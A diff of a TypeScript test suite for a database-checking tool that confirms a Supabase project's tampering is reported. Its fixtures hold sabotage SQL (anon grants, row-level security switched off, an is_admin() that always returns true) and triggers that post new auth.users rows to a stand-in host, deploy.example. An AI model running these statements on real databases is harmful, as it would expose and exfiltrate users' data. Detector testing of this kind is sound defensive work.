@@ -5,17 +5,115 @@ import { checkDatabase } from "../../scripts/doctor/check-database.ts";
 import { readExpected } from "../../scripts/doctor/expected.ts";
 import type { Finding } from "../../scripts/doctor/finding.ts";
 import { type OpenDatabase, openMigratedDatabase } from "../../scripts/migrated-database.ts";
-import { harmless, noticed, sabotages } from "../support/doctor/sabotage.ts";
 
 const hostedProject = "tests/support/doctor/hosted-project.sql";
 const secondFactor =
   "insert into auth.mfa_factors (id, user_id, factor_type, status, created_at, updated_at) select gen_random_uuid(), user_id, 'totp', 'verified', now(), now() from public.admins";
+const hook = (table: string) =>
+  `create trigger hook after insert on ${table} for each row execute function supabase_functions.http_request('https://key@deploy.example/in', 'POST', '{}', '{}', '5000')`;
+const withoutTriggers = (table: string, change: string) =>
+  `alter table ${table} disable trigger all; ${change}; alter table ${table} enable trigger all`;
+
+/** Ways to open a project, or to make it quietly stop working: each is told in one red line that begins so. */
+const sabotages: [told: string, sql: string][] = [
+  ["the grant delete on public.case_studies to anon is in no migration", "grant delete on public.case_studies to anon"],
+  [
+    "the grant select (email) on public.enquiries to anon is in no migration",
+    "grant select (email) on public.enquiries to anon",
+  ],
+  ["the grant select on public.admins to public is in no migration", "grant select on public.admins to public"],
+  ["the grant select on public.case_studies to anon is missing", "revoke select on public.case_studies from anon"],
+  ["the grant usage on schema private to public is in no migration", "grant usage on schema private to public"],
+  [
+    "the grant execute on function public.discard_import() to anon is in no migration",
+    "grant execute on function public.discard_import() to anon",
+  ],
+  [
+    "the table public.settings is not as in the migrations (with row-level security off)",
+    "alter table public.settings disable row level security",
+  ],
+  [
+    'the policy "Visitors can read published posts" on public.blog_posts is not as in the migrations',
+    `alter policy "Visitors can read published posts" on public.blog_posts using (status = 'published')`,
+  ],
+  [
+    'the policy "Drafts" on public.blog_posts is in no migration',
+    `create policy "Drafts" on public.blog_posts for select to anon using (true)`,
+  ],
+  [
+    'the policy "Admins can upload site images" on storage.objects is missing',
+    `drop policy "Admins can upload site images" on storage.objects`,
+  ],
+  [
+    "the column delivered_at of public.enquiries is missing",
+    "alter table public.enquiries drop column delivered_at cascade",
+  ],
+  [
+    "the constraint enquiries_email_check on public.enquiries is missing",
+    "alter table public.enquiries drop constraint enquiries_email_check",
+  ],
+  [
+    "the function private.is_admin() is not as in the migrations",
+    "create or replace function private.is_admin() returns boolean language sql stable security definer set search_path = '' as 'select true'",
+  ],
+  ["the function private.hash_draft_token(text) is", "alter function private.hash_draft_token(text) security definer"],
+  ["the trigger stamp_update on public.blog_posts is", "alter table public.blog_posts disable trigger stamp_update"],
+  [
+    "migrations that have not been applied: supabase/migrations/",
+    "delete from supabase_migrations.schema_migrations where version = (select max(version) from supabase_migrations.schema_migrations)",
+  ],
+  [
+    "the project has migrations that this checkout lacks: 20991231000000",
+    "insert into supabase_migrations.schema_migrations (version) values ('20991231000000')",
+  ],
+  ["no admin is listed", "delete from public.admins"],
+  [
+    "the project category (id 2) is missing",
+    withoutTriggers("public.blog_categories", "delete from public.blog_categories where id = 2"),
+  ],
+  ["whether enquiries need Turnstile is not said", "delete from private.enquiry_server"],
+];
+
+/** What others have put on the project's own objects, and what an owner may choose: yellow. */
+const noticed: [told: string, sql: string][] = [
+  ["the trigger hook on public.blog_posts is in no migration", hook("public.blog_posts")],
+  ["the trigger hook on auth.users is in no migration", hook("auth.users")],
+  [
+    "the grant select on public.enquiries to reporter is in no migration",
+    "create role reporter; grant select on public.enquiries to reporter",
+  ],
+  [
+    'the policy "Invoices" on storage.objects is in no migration',
+    `create policy "Invoices" on storage.objects for select to authenticated using (bucket_id = 'invoices')`,
+  ],
+  ["the index public.enquiries_created_at_idx is missing", "drop index public.enquiries_created_at_idx"],
+  ["the setting statement_timeout of role anon is not", "alter role anon set statement_timeout = '1min'"],
+  [
+    "the bucket case-studies is not as in the migrations",
+    "update storage.buckets set file_size_limit = 20000000 where id = 'case-studies'",
+  ],
+  ["the job purge-bin is not", "update cron.job set schedule = '0 3 * * *' where jobname = 'purge-bin'"],
+  ["the settings have not been saved", "delete from public.settings"],
+  ["admins without a second factor: 1", "delete from auth.mfa_factors"],
+  ["nobody is told of an enquiry by e-mail", "delete from vault.secrets"],
+];
+
+/** What an owner may do without a word. */
+const harmless = [
+  "create table public.diary (text text primary key); create function public.mine() returns integer language sql as 'select 1'",
+  "create table public.notes (text text); grant select on public.notes to anon",
+  "alter table public.enquiries add column budget text; alter table public.enquiries add check (budget <> '')",
+  "create index on public.settings (site_name); comment on table public.settings is 'Mine'",
+  "insert into storage.buckets (id, name, public) values ('invoices', 'invoices', false)",
+  "create role reader; alter role reader set statement_timeout = 0",
+  "insert into cron.job (jobname, schedule, command) values ('clean', '0 4 * * *', 'select 1')",
+];
 
 let hosted: OpenDatabase;
 let expected: Entry[];
 let plain: Finding[];
 
-const open = (findings: Finding[]) => findings.flatMap((finding) => (finding.state === "well" ? [] : [finding]));
+const open = (findings: Finding[]) => findings.filter(({ state }) => state !== "well");
 const check = async (): Promise<Finding[]> =>
   checkDatabase(async (sql) => (await hosted.database.query<Record<string, unknown>>(sql)).rows, {
     expect: async () => expected,
@@ -49,50 +147,29 @@ test("the embedded database does not differ from the migrations", () => {
   ]);
 });
 
-test("harmless changes get no line, and changes that an owner may want get a yellow one", async () => {
-  expect(await findAfter(harmless.join(";\n"))).toEqual([]);
-  const states = (await findAfter(noticed.join(";\n"))).map(({ state }) => state);
-  expect(states).toEqual(["to do", ...noticed.map(() => "to do")]);
+test.each([
+  { what: "nothing that an owner may do gets a line", changes: harmless.map((sql) => ["", sql] as const), state: null },
+  { what: "each thing that others have added or chosen is a yellow line", changes: noticed, state: "to do" },
+  { what: "each way to open a project or to break it is a red line", changes: sabotages, state: "ill" },
+])("$what", async ({ changes, state }) => {
+  const findings = await findAfter(changes.map(([, sql]) => sql).join(";\n"));
+  const unsaid = changes.filter(([told]) => told && !findings.some(({ text }) => text.startsWith(told)));
+  expect(unsaid).toEqual([]);
+  expect(findings.map(({ text, state }) => `${state}: ${text}`)).toHaveLength(state ? changes.length : 0);
+  expect(findings.filter((finding) => finding.state !== state)).toEqual([]);
 });
 
-const redLines = (findings: Finding[]) => findings.filter(({ state }) => state === "ill");
-const statementOf = (finding: Finding) =>
-  finding.state === "well" ? null : (/in the SQL editor: (.*)$/.exec(finding.remedy)?.[1] ?? null);
-
-test.each(Object.entries(sabotages))(
-  "%s: each sabotage is one red line, and the statements in the remedies undo it",
-  async (_what, batch) => {
-    const red = redLines(await findAfter(batch.join(";\n")));
-    expect(red.map(({ text }) => text)).toHaveLength(batch.length);
-    const statements = red.flatMap((finding) => statementOf(finding) ?? []);
-    expect(redLines(await findAfter([...batch, ...statements].join(";\n")))).toEqual(
-      red.filter((finding) => statementOf(finding) === null),
-    );
-  },
-);
-
-test("a line says what differs, and gives only the host of a URL", async () => {
-  const change = `alter policy "Visitors can read published posts" on public.blog_posts using (true);
-    grant select (email) on public.enquiries to anon; alter role authenticator set pgrst.jwt_secret = 'known';
-    create trigger hook after insert on auth.users for each row
-      execute function supabase_functions.http_request('https://user:key@evil.example/secret', 'POST', '{}', '{}', '5000')`;
-  const texts = (await findAfter(change)).map(({ text }) => text);
-  expect(texts).toEqual([
-    expect.stringMatching(
-      /^the policy "Visitors can read published posts" on public\.blog_posts is not as in the migrations \(\(true\) instead of .*now\(\)/,
-    ),
-    "the grant select (email) on public.enquiries to anon is in no migration",
-    "the setting pgrst.jwt_secret of role authenticator is in no migration",
-    "the trigger hook on auth.users is in no migration, and calls evil.example",
-  ]);
+test("no remedy removes anything that holds data, and no line tells an address", async () => {
+  const findings = await findAfter([...sabotages, ...noticed].map(([, sql]) => sql).join(";\n"));
+  const remedies = findings.map((finding) => (finding.state === "well" ? "" : finding.remedy)).join("\n");
+  expect(remedies).not.toMatch(/drop (?!policy)|delete from|truncate/);
+  expect(findings.map(({ text }) => text).join("\n")).not.toContain("deploy.example");
 });
 
 test("rows that cannot be read get a line with the reason, and the rest is still reported", async () => {
-  const texts = (await findAfter("alter table private.picture_uses rename stem to trunk")).map(({ text }) => text);
-  expect(texts).toEqual(
-    expect.arrayContaining([
-      "the column stem of private.picture_uses is missing",
-      expect.stringMatching(/^the rows that others depend on could not be looked at: column u\.stem does not exist/),
-    ]),
+  const texts = (await findAfter("alter table public.admins rename user_id to person")).map(({ text }) => text);
+  expect(texts).toContain("the column user_id of public.admins is missing");
+  expect(texts).toContainEqual(
+    expect.stringMatching(/^the rows that others depend on could not be looked at: column .*user_id does not exist/),
   );
 });
